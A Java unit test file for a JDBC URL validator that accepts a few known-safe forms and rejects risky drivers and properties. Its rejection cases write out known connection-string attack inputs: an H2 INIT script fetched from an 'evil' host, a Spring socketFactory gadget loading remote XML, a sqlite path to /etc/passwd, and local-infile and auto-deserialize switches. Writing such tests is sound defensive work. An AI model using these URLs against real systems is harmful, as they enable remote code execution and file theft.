package dev.preflight.custom.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.preflight.custom.SourceFailure;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlUnitTest {

    @Test
    void postgresqlNamesEveryHostWithItsPort() throws SourceFailure {
        JdbcUrl url = JdbcUrl.parse("jdbc:postgresql://db1.example.com,db2.example.com:5433/deploy?sslmode=require");

        assertThat(url.dialect()).isEqualTo(Dialect.POSTGRESQL);
        assertThat(url.endpoints())
                .containsExactly(
                        new JdbcUrl.Endpoint("db1.example.com", 5432), new JdbcUrl.Endpoint("db2.example.com", 5433));
        assertThat(url.where()).isEqualTo("db1.example.com:5432,db2.example.com:5433");
        assertThat(url.url())
                .isEqualTo("jdbc:postgresql://db1.example.com,db2.example.com:5433/deploy?sslmode=require");
    }

    @Test
    void ipv6HostsLoseTheirBracketsForTheHostRules() throws SourceFailure {
        JdbcUrl url = JdbcUrl.parse("jdbc:postgresql://[::1]:5432/deploy");

        assertThat(url.endpoints()).containsExactly(new JdbcUrl.Endpoint("::1", 5432));
        assertThat(url.where()).isEqualTo("[::1]:5432");
    }

    @Test
    void mysqlIsServedByTheMariadbDriver() throws SourceFailure {
        JdbcUrl url = JdbcUrl.parse("jdbc:mysql://db.example.com/deploy?sslMode=verify-full");

        assertThat(url.dialect()).isEqualTo(Dialect.MARIADB);
        assertThat(url.url()).isEqualTo("jdbc:mariadb://db.example.com/deploy?sslMode=verify-full");
        assertThat(url.endpoints()).containsExactly(new JdbcUrl.Endpoint("db.example.com", 3306));
    }

    @Test
    void sqlServerTakesItsHostFromTheUrlOnly() throws SourceFailure {
        JdbcUrl url = JdbcUrl.parse(
                "jdbc:sqlserver://sql.example.com\\RELEASES:1444;databaseName=deploy;encrypt=true;trustServerCertificate=true;");

        assertThat(url.dialect()).isEqualTo(Dialect.SQLSERVER);
        assertThat(url.endpoints()).containsExactly(new JdbcUrl.Endpoint("sql.example.com", 1444));
        assertThatThrownBy(() -> JdbcUrl.parse("jdbc:sqlserver://;serverName=evil.example.com"))
                .hasMessageContaining("must name its hosts plainly");
        assertThatThrownBy(() -> JdbcUrl.parse("jdbc:sqlserver://sql.example.com;serverName=evil.example.com"))
                .hasMessageStartingWith("jdbc:sqlserver URL property serverName is not allowed");
        assertThatThrownBy(() -> JdbcUrl.parse("jdbc:sqlserver://sql.example.com;databaseName={a;b}"))
                .hasMessageContaining("{braces}");
    }

    @Test
    void oracleAcceptsOnlyTheEasyConnectForms() throws SourceFailure {
        assertThat(JdbcUrl.parse("jdbc:oracle:thin:@ora.example.com:1522/RELEASES")
                        .endpoints())
                .containsExactly(new JdbcUrl.Endpoint("ora.example.com", 1522));
        assertThat(JdbcUrl.parse("jdbc:oracle:thin:@//ora.example.com/releases.example.com")
                        .endpoints())
                .containsExactly(new JdbcUrl.Endpoint("ora.example.com", 1521));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=ora)(PORT=1521))(CONNECT_DATA=(SERVICE_NAME=x)))",
                "jdbc:oracle:thin:scott/tiger@ora.example.com:1521/x",
                "jdbc:oracle:thin:@ora.example.com:1521/x?TNS_ADMIN=/etc",
                "jdbc:oracle:thin:@releases_alias",
                "jdbc:oracle:thin:@tcps://ora.example.com:2484/x"
            })
    void oracleRefusesEverythingElse(String url) {
        assertThatThrownBy(() -> JdbcUrl.parse(url))
                .isInstanceOf(SourceFailure.class)
                .hasMessageStartingWith("jdbc:oracle:thin URL must be")
                .hasMessageNotContaining("tiger")
                .hasMessageNotContaining("/etc");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x",
                "jdbc:h2:tcp://localhost/~/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:derby:memory:x;create=true",
                "jdbc:hsqldb:mem:x",
                "jdbc:sqlite:/etc/passwd",
                "jdbc:oracle:oci:@ora",
                "jdbc:oracle:kprb:",
                "JDBC:H2:mem:x"
            })
    void refusesOtherDriversNamingOnlyTheScheme(String url) {
        assertThatThrownBy(() -> JdbcUrl.parse(url))
                .isInstanceOf(SourceFailure.class)
                .hasMessageStartingWith("database URL scheme jdbc:")
                .hasMessageContaining("is not allowed")
                .hasMessageNotContaining("INIT")
                .hasMessageNotContaining("/etc/passwd")
                .hasMessageNotContaining("\n");
    }

    @Test
    void saysSoWhenItIsNotAJdbcUrl() {
        assertThatThrownBy(() -> JdbcUrl.parse("postgres://user:hunter2@db/x"))
                .hasMessage("database URL must start with jdbc:<driver>:");
        assertThatThrownBy(() -> JdbcUrl.parse("JDBC:postgresql://db/x")).hasMessageContaining("lower case");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "jdbc:postgresql://db/x?socketFactoryArg=http://evil/x.xml",
                "jdbc:postgresql://db/x?sslfactory=x.Y",
                "jdbc:postgresql://db/x?sslhostnameverifier=x.Y",
                "jdbc:postgresql://db/x?sslpasswordcallback=x.Y",
                "jdbc:postgresql://db/x?authenticationPluginClassName=x.Y",
                "jdbc:postgresql://db/x?loggerFile=/tmp/x&loggerLevel=TRACE",
                "jdbc:postgresql://db/x?options=-c%20default_transaction_read_only=off",
                "jdbc:postgresql://db/x?readOnlyMode=ignore",
                "jdbc:postgresql://db/x?password=hunter2",
                "jdbc:postgresql://db/x?sslmode=require&service=prod",
                "jdbc:mariadb://db/x?allowLoadLocalInfile=true",
                "jdbc:mariadb://db/x?allowLocalInfile=true",
                "jdbc:mariadb://db/x?autoDeserialize=true",
                "jdbc:mariadb://db/x?queryInterceptors=x.Y",
                "jdbc:mysql://db/x?statementInterceptors=x.Y",
                "jdbc:mariadb://db/x?socketFactory=x.Y",
                "jdbc:mariadb://db/x?credentialType=ENV",
                "jdbc:mariadb://db/x?codecs=x.Y",
                "jdbc:mariadb://db/x?allowMultiQueries=true",
                "jdbc:mariadb://db/x?ALLOWLOCALINFILE=true",
                "jdbc:sqlserver://db;socketFactoryClass=x.Y",
                "jdbc:sqlserver://db;trustManagerClass=x.Y",
                "jdbc:sqlserver://db;accessTokenCallbackClass=x.Y",
                "jdbc:sqlserver://db;integratedSecurity=true",
                "jdbc:sqlserver://db;authentication=ActiveDirectoryManagedIdentity"
            })
    void refusesPropertiesNotKnownToBeHarmless(String url) {
        assertThatThrownBy(() -> JdbcUrl.parse(url))
                .isInstanceOf(SourceFailure.class)
                .hasMessageMatching("jdbc:(postgresql|mariadb|sqlserver) URL property [A-Za-z]+ is not allowed .*")
                .hasMessageNotContaining("x.Y")
                .hasMessageNotContaining("hunter2")
                .hasMessageNotContaining("evil");
    }

    @Test
    void namesOnlyPlainPropertyNames() {
        assertThatThrownBy(() -> JdbcUrl.parse("jdbc:postgresql://db/x?socket%46actory=x.Y"))
                .hasMessage("jdbc:postgresql URL has a property whose name is not a plain name");
        assertThatThrownBy(() -> JdbcUrl.parse("jdbc:postgresql://db/x?hunter2 secret"))
                .hasMessage("jdbc:postgresql URL has a property whose name is not a plain name");
        assertThatThrownBy(() -> JdbcUrl.parse("jdbc:postgresql://db/x?ssl=true&SSL=false"))
                .hasMessageContaining("twice");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql:deploy",
                "jdbc:postgresql:///deploy",
                "jdbc:postgresql://user:pw@db/deploy",
                "jdbc:mariadb://address=(host=db)(port=3306)/deploy",
                "jdbc:mariadb:replication://db1,db2/deploy",
                "jdbc:postgresql://db:99999/deploy",
                "jdbc:postgresql://db/de%70loy"
            })
    void refusesHostsItCannotCheck(String url) {
        assertThatThrownBy(() -> JdbcUrl.parse(url))
                .isInstanceOf(SourceFailure.class)
                .hasMessageNotContaining("pw@")
                .hasMessageNotContaining("\n");
    }

    @Test
    void acceptsHarmlessPropertiesInAnyCaseWhereTheDriverDoes() throws SourceFailure {
        assertThat(JdbcUrl.parse("jdbc:mariadb://db/x?sslmode=trust&useCompression=true")
                        .dialect())
                .isEqualTo(Dialect.MARIADB);
        assertThat(JdbcUrl.parse("jdbc:postgresql://db/x?ssl=true&sslmode=verify-full&ApplicationName=a%20b")
                        .dialect())
                .isEqualTo(Dialect.POSTGRESQL);
    }
}
